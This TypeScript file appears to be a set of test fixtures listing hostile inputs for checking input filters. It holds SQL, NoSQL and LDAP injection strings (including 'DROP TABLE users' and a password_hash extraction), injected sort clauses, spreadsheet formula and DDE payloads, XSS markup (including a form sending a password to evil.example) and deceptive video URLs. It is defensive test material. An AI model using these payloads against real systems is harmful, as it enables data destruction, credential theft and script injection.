/** What people have typed into forms to become somebody else. */
export const sqlTexts: readonly string[] = [
  `' OR '1'='1`,
  `' OR 1=1 --`,
  `admin'--`,
  `operator'/*`,
  `" OR ""="`,
  `') OR ('1'='1`,
  `'; DROP TABLE users; --`,
  `'; SELECT pg_sleep(3600); --`,
  `1; SELECT pg_sleep(3600)`,
  `' UNION SELECT null, null, null --`,
  `\\' OR 1=1 --`,
  `%27%20OR%201=1`,
  `$1`,
  `$$; SELECT 1; $$`,
  `operator' AND (SELECT pg_sleep(3600)) IS NULL --`,
  `' || (SELECT password_hash FROM users LIMIT 1) || '`,
  `{"$ne": null}`,
  `*)(uid=*))(|(uid=*`,
];

/** What lists have been asked to be ordered by. */
export const hostileSorts: readonly string[] = [
  'id;--',
  'name_en desc, (SELECT pg_sleep(3600))',
  '__proto__',
  'constructor',
  'password_hash',
  '(1)',
];

/** Cells that a spreadsheet would run. */
export const formulas: readonly string[] = [
  `=HYPERLINK("http://evil.example","click")`,
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  `=cmd|' /C calc'!A0`,
];

/** Markup that has run somewhere although it was cleaned. */
export const markup: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror=window.__xss=1>',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>',
  '<a href="javascript:window.__xss=1">x</a>',
  '<a href="java\tscript:window.__xss=1">x</a>',
  '<a href=" &#106;avascript:window.__xss=1">x</a>',
  '<a href="data:text/html,<script>1</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>1</script>"></iframe>',
  '<object data="x"></object><embed src=x>',
  '<form action="http://evil.example"><input name=password></form>',
  '<style>*{background:url(http://evil.example)}</style>',
  '<p style="background:url(javascript:1)" onclick="1" class="x" id="y">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=1>">',
  '<textarea><img title="</textarea><img src=x onerror=1>">',
  '<xmp><img src=x onerror=1></xmp>',
  '<base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example">',
  '<link rel=stylesheet href=http://evil.example>',
  '<img src=`x` onerror=`1`>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '"><img src=x onerror=1>',
  '<details open ontoggle=1>',
  '<video><source onerror=1></video>',
  '<template><script>1</script></template>',
  '<!--><img src=x onerror=1>-->',
  '<![CDATA[<img src=x onerror=1>]]>',
];

/** What is no film at a known host, however much it looks like one. */
export const videoAddresses: readonly string[] = [
  'javascript:alert(1)//youtube.com/watch?v=abcDEF_-123',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  'https://evil.example/watch?v=abcDEF_-123',
  'https://youtube.com.evil.example/watch?v=abcDEF_-123',
  'https://evil.example/https://www.youtube.com/watch?v=abcDEF_-123',
  'https://www.youtube.com@evil.example/watch?v=abcDEF_-123',
  'https://user:pass@www.youtube.com/watch?v=abcDEF_-123',
  'https://www.youtube.com:8443/watch?v=abcDEF_-123',
  '//evil.example/watch?v=abcDEF_-123',
  'ftp://youtube.com/watch?v=abcDEF_-123',
  'https://www.youtube.com/redirect?q=https://evil.example',
  'https://www.youtube.com/watch?v=abc"onload=alert(1)',
  'https://www.facebook.com/l.php?u=https://evil.example',
  'https://notyoutube.com/watch?v=abcDEF_-123',
  'https://constructor/watch?v=abcDEF_-123',
  '',
];
